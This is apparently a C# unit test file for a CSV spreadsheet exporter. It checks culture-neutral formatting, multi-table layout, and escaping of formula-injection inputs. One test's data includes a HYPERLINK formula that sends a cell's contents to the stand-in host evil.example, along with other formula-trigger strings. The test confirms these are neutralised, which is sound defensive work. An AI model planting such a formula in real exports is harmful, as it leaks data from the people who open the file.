using System.Globalization;
using System.Text;
using CsvHelper;
using EnSakITaget.Application.Common.Spreadsheets;

namespace EnSakITaget.Application.UnitTests.Common.Spreadsheets;

public sealed class CsvSpreadsheetTests
{
    private static readonly DateTimeOffset Moment = new DateTimeOffset(2026, 11, 30, 9, 15, 30, TimeSpan.FromHours(1)).AddTicks(1_230_000);

    [Theory]
    [InlineData("sv-SE")]
    [InlineData("en-US")]
    [InlineData("de-DE")]
    [InlineData("fa-IR")]
    [InlineData("ar-SA")]
    public void Dates_times_and_numbers_are_written_alike_whatever_the_culture(string culture)
    {
        var table = new SpreadsheetTable(
            "figures",
            ["day", "at", "rate", "count", "change", "done", "status", "id", "none"],
            [[new DateOnly(2026, 11, 30), Moment, 0.6667, 1234567, -1.5, true, DayOfWeek.Monday, Guid.Empty, null]]);

        var text = InCulture(culture, () => Text(CsvSpreadsheet.Write(new Spreadsheet(table))));

        text.ShouldBe(
            "day,at,rate,count,change,done,status,id,none\r\n" +
            "2026-11-30,2026-11-30T09:15:30.123+01:00,0.6667,1234567,-1.5,true,Monday,00000000-0000-0000-0000-000000000000,\r\n");
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(1,1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Text_a_spreadsheet_would_evaluate_is_quoted_behind_an_apostrophe_and_a_computed_negative_number_is_left_alone(string hostile)
    {
        var table = new SpreadsheetTable("answers", ["text", "change"], [[hostile, -2.5]]);

        var bytes = CsvSpreadsheet.Write(new Spreadsheet(table));

        Text(bytes).ShouldStartWith($"text,change\r\n\"'{hostile.Replace("\"", "\"\"", StringComparison.Ordinal)}\",-2.5");
        using var reader = new CsvParser(new StreamReader(new MemoryStream(bytes)), CultureInfo.InvariantCulture);
        reader.Read();
        reader.Read();
        reader.Record.ShouldBe([$"'{hostile}", "-2.5"]);
    }

    [Fact]
    public void Several_tables_come_one_under_another_each_line_naming_its_table()
    {
        var spreadsheet = new Spreadsheet(
            new SpreadsheetTable("things", ["position", "title"], [[1, "Bloggar"], [2, "=Facebook"]]),
            new SpreadsheetTable("weeklyReports", ["weekStart", "reports"], [[new DateOnly(2010, 2, 22), 11]]));

        Text(CsvSpreadsheet.Write(spreadsheet)).ShouldBe(
            "table,position,title\r\nthings,1,Bloggar\r\nthings,2,\"'=Facebook\"\r\n\r\n" +
            "table,weekStart,reports\r\nweeklyReports,2010-02-22,11\r\n");
    }

    [Fact]
    public void A_table_of_records_is_headed_by_their_json_names_and_leaves_their_lists_to_tables_of_their_own()
    {
        var table = SpreadsheetTable.Of("things", [new Thing(1, "Bloggar", [3, 4], null)]);

        table.Columns.ShouldBe(["position", "title", "releasedOn"]);
        table.Rows.ShouldHaveSingleItem().ShouldBe([1, "Bloggar", null]);
        table.With("standingAt", [7]).ShouldSatisfyAllConditions(
            t => t.Columns.ShouldBe(["position", "title", "releasedOn", "standingAt"]), t => t.Rows[0][3].ShouldBe(7));
    }

    /// <summary>The file's text after its UTF-8 byte order mark.</summary>
    private static string Text(byte[] bytes)
    {
        bytes.Take(3).ShouldBe(Encoding.UTF8.GetPreamble());
        return Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
    }

    internal static T InCulture<T>(string culture, Func<T> action)
    {
        var before = (CultureInfo.CurrentCulture, CultureInfo.CurrentUICulture);
        try
        {
            (CultureInfo.CurrentCulture, CultureInfo.CurrentUICulture) = (new CultureInfo(culture), new CultureInfo(culture));
            return action();
        }
        finally
        {
            (CultureInfo.CurrentCulture, CultureInfo.CurrentUICulture) = before;
        }
    }

    private sealed record Thing(int Position, string Title, IReadOnlyList<int> Scores, DateOnly? ReleasedOn);
}
